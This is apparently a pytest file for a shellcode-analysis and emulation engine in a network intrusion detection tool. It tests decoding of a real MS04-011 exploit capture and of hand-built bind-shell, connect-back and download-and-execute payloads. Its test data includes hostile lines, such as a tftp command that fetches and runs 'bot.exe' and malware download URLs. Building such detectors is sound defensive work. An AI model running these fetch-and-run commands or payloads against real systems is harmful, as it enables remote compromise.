"""Payload analysis end to end: the real MS04-011 exploit of the Honeynet Forensic Challenge 2010 #1,
hand-assembled shellcode (tests/shellcode_vectors.py) plain and encoded, and hostile code that must
end at a limit with its reason."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import shellcode_vectors as v
from capture_helpers import tcp_payloads
from stormwatch.detect.shellcode import Limits, Offer, StopReason, analyze
from stormwatch.detect.shellcode.emit import event_fields
from stormwatch.events import CATALOGUE

CAPTURE = "pcap/exploits/honeynet-fc2010-attack-trace-ms04-011.pcap"
STOPS = {s.value for s in StopReason}


def _exploit_stream(shared_data: Path) -> bytes:
    """The attacker's bytes to 445: SMB, the DSSETUP bind and DsRoleUpgradeDownlevelServer."""
    streams = tcp_payloads(shared_data / CAPTURE)
    return streams[("98.114.205.102", 1828, "192.150.11.111", 445)]


# -- the real exploit ------------------------------------------------------------------------------
def test_ms04_011_stream_yields_bind_shell_on_1957(shared_data: Path) -> None:
    """The published answer of the challenge: a bind shell on TCP 1957 (xor 0x99 decoder)."""
    r = analyze(_exploit_stream(shared_data))
    assert r.found
    assert r.binds == (1957,)
    assert r.decoder == "xor8" and r.key == "99"
    assert r.getpc == "jmp-call-pop"
    assert r.decoded_size == 381  # mov cx, 0x17d
    assert r.stop_reason == "exit_api" and r.stop_detail == "ExitThread"
    assert r.api_profile == ("GetProcAddress,LoadLibraryA,GetProcAddress,WSASocketA,bind,listen,accept,"
                             "CreateProcessA,closesocket,ExitThread")
    assert r.commands == ("cmd",)
    assert ("LoadLibraryA", "'ws2_32'") in r.api_calls


def test_ms04_011_payload_kept_by_the_replay(shared_data: Path, tmp_path: Path) -> None:
    """The same answer from the payload the capture replay keeps by SHA-256 (the exploit argument
    the MS04-011 detector extracted, not the whole stream)."""
    from stormwatch.collector.replay import replay_capture
    from stormwatch.ingest.base import Source

    rows = [r for t in replay_capture(Source(str(shared_data / CAPTURE), "t"), tmp_path) for r in t.to_pylist()]
    attempts = [r for r in rows if r["event"] == "exploit.attempt"]
    assert attempts, "the replay found no exploit"
    import json
    digests = {json.loads(r["data"]).get("payload_sha256") for r in attempts} - {None}
    results = [analyze((tmp_path / d[:2] / d).read_bytes()) for d in digests if (tmp_path / d[:2] / d).exists()]
    assert results, "no payload kept"
    assert any(r.binds == (1957,) and r.key == "99" for r in results)


def test_static_only_still_decodes_ms04_011(shared_data: Path) -> None:
    r = analyze(_exploit_stream(shared_data), limits=Limits(emulate=False))
    assert (r.decoder, r.key, r.decoded_size, r.stop_reason) == ("xor8", "99", 381, "not_emulated")
    assert r.api_calls == () and r.binds == ()
    assert {"ws2_32", "WSASocketA", "CreateProcessA"} <= set(r.strings)


# -- hand-assembled vectors -----------------------------------------------------------------------
def test_plain_bind_shell() -> None:
    r = analyze(v.bind_shell(4444))
    assert r.found and r.offset == 0 and r.decoder is None
    assert r.binds == (4444,)
    assert r.api_profile == "LoadLibraryA,WSASocketA,bind,listen,accept,ExitThread"


def test_xor8_encoded_bind_shell_in_an_exploit_argument() -> None:
    sc = v.xor8_callpop(v.bind_shell(5555), 0xAA)
    arg = v.exploit_argument(sc)
    r = analyze(arg)
    start = arg.index(sc)
    assert (r.decoder, r.key, r.getpc) == ("xor8", "aa", "call-pop")
    assert r.offset == start and r.decoded_offset == start + 21 and r.decoded_size == len(v.bind_shell(5555))
    assert r.sled is not None and r.sled[0] + r.sled[1] == start
    assert r.binds == (5555,) and r.stop_reason == "exit_api"


def test_xor32_encoded_connect_back() -> None:
    r = analyze(v.exploit_argument(v.xor32_fnstenv(v.connect_back("192.0.2.9", 443), b"\x11\x22\x33\x44")))
    assert (r.decoder, r.key, r.getpc) == ("xor32", "11223344", "fnstenv")
    assert r.connects == (("192.0.2.9", 443),)
    assert r.stop_detail == "ExitProcess"


def test_additive_feedback_xor32() -> None:
    r = analyze(v.xor32_additive(v.bind_shell(6666), 0x01234567))
    assert (r.decoder, r.key) == ("xor32-additive", "67452301")
    assert r.offset == 0  # the key set-up before the FPU GetPC belongs to the stub
    assert r.binds == (6666,)


def test_download_and_execute() -> None:
    r = analyze(v.download_exec("http://10.9.8.7:8080/x/bot.exe", "C:\\a.exe"))
    assert r.urls == ("http://10.9.8.7:8080/x/bot.exe",)
    assert r.commands == ("C:\\a.exe",)
    assert r.offers == (Offer("http", "10.9.8.7", 8080, "/x/bot.exe", "http://10.9.8.7:8080/x/bot.exe", "a.exe"),)
    assert r.api_profile == "LoadLibraryA,URLDownloadToFileA,WinExec,ExitProcess"


def test_winexec_echo_ftp_script() -> None:
    r = analyze(v.win_exec(v.ECHO_FTP))
    assert r.commands == (v.ECHO_FTP,)
    assert r.offers == (Offer("ftp", "10.0.0.5", 2121, "f.exe", "ftp://10.0.0.5:2121/f.exe", "f.exe"),)


def test_winexec_tftp() -> None:
    r = analyze(v.xor8_callpop(v.win_exec("cmd /c tftp -i 10.0.0.7 GET bot.exe & bot.exe"), 0x5C))
    assert r.decoder == "xor8"
    assert [o.endpoint for o in r.offers] == ["10.0.0.7:69:tftp"]
    assert r.offers[0].filename == "bot.exe"


def test_events_of_a_report_match_the_catalogue() -> None:
    r = analyze(v.download_exec("http://10.9.8.7/bot.exe", "b.exe"))
    evs = event_fields(r)
    assert [e for e, _ in evs] == ["payload.shellcode", "payload.offer"]
    for name, fields in evs:
        declared = {f.name for f in CATALOGUE[name].fields}
        assert set(fields) <= declared, set(fields) - declared
    assert evs[0][1]["api_profile"] == "LoadLibraryA,URLDownloadToFileA,WinExec,ExitProcess"
    assert evs[1][1]["url"] == "http://10.9.8.7/bot.exe" and evs[1][1]["endpoint"] == "10.9.8.7:80:http"
    assert event_fields(analyze(b"A" * 100)) == []


# -- hostile code ends at its limit ----------------------------------------------------------------
SMALL = Limits(max_instructions=20_000, max_seconds=30.0, max_code_writes=1_000)


@pytest.mark.parametrize(("code", "reason", "detail"), [
    (v.JMP_SELF, "instruction_limit", "20000 instructions"),
    (v.HUGE_LOOP, "instruction_limit", "20000 instructions"),
    (v.INT3, "interrupt", "int3"),
    (v.BAD_READ, "invalid_memory", "read unmapped 0x00000000"),
    (v.DIV_ZERO, "interrupt", "divide error"),
    (v.SMC_LOOP, "self_modifying_limit", "more than 1000 writes"),
    (v.HUGE_ALLOC, "memory_limit", "0x7fffffff"),
    (v.API_FLOOD, "api_call_limit", "128 calls"),
    (b"\x0f\x0b", "invalid_instruction", "eip"),  # ud2
    (b"\xf4", "invalid_instruction", "privileged"),  # hlt
    (b"\xc3", "returned", ""),
])
def test_hostile_code_stops_with_its_reason(code: bytes, reason: str, detail: str) -> None:
    r = analyze(code, limits=SMALL)
    assert r.stop_reason == reason
    assert detail in r.stop_detail
    assert 0 <= r.instructions <= SMALL.max_instructions


def test_wall_time_limit() -> None:
    r = analyze(v.JMP_SELF, limits=Limits(max_instructions=10**9, max_seconds=0.02))
    assert r.stop_reason == "time_limit"


def test_instruction_counts() -> None:
    assert analyze(v.INT3, limits=SMALL).instructions == 3
    assert analyze(v.DIV_ZERO, limits=SMALL).instructions == 1
    assert analyze(v.JMP_SELF, limits=SMALL).instructions == 20_000


def test_input_beyond_max_input_is_cut_and_said() -> None:
    data = b"\x90" * 64 + v.bind_shell(7777) + b"C" * 5000
    r = analyze(data, limits=Limits(max_input=2048))
    assert r.size == len(data) and r.binds == (7777,)
    assert any("first 2048" in n for n in r.notes)


def test_filler_with_a_sled_is_not_shellcode() -> None:
    r = analyze(b"\\\x00" * 50 + b"\x90" * 200 + bytes(range(256)))
    assert not r.found and r.sled == (100, 200) and r.offset is None


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=1500))
def test_random_bytes_never_raise_and_always_stop(data: bytes) -> None:
    r = analyze(data, limits=Limits(max_instructions=20_000, max_seconds=5.0))
    assert r.stop_reason in STOPS
    assert r.size == len(data)


@settings(max_examples=40, deadline=None)
@given(st.binary(min_size=1, max_size=400), st.integers(0, 255))
def test_random_bytes_behind_a_sled_and_getpc_never_raise(body: bytes, key: int) -> None:
    data = b"\x90" * 32 + b"\xe8\x00\x00\x00\x00\x5e" + bytes(b ^ key for b in body)
    r = analyze(data, limits=Limits(max_instructions=20_000, max_seconds=5.0))
    assert r.stop_reason in STOPS and r.found


def test_engine_reuse_leaks_nothing_between_runs() -> None:
    """The per-thread emulator is reused: the same payloads give the same reports in any order
    and with a fresh engine (faults, allocations and self-modification do not carry over)."""
    from stormwatch.detect.shellcode import emulator

    payloads = [v.HUGE_ALLOC, v.DIV_ZERO, v.bind_shell(1), v.SMC_LOOP, v.INT3, b"\x0f\x0b", v.BAD_READ,
                v.xor8_callpop(v.win_exec("cmd /c tftp -i 1.2.3.4 GET a.exe"), 7), bytes(range(256)) * 2]

    def key(r: object) -> tuple[object, ...]:
        return tuple(getattr(r, f) for f in ("stop_reason", "stop_detail", "instructions", "api_calls", "decoder"))

    forward = [key(analyze(p, limits=SMALL)) for p in payloads]
    backward = [key(analyze(p, limits=SMALL)) for p in reversed(payloads)][::-1]
    fresh = []
    for p in payloads:
        emulator._LOCAL.engine = None
        fresh.append(key(analyze(p, limits=SMALL)))
    assert forward == backward == fresh
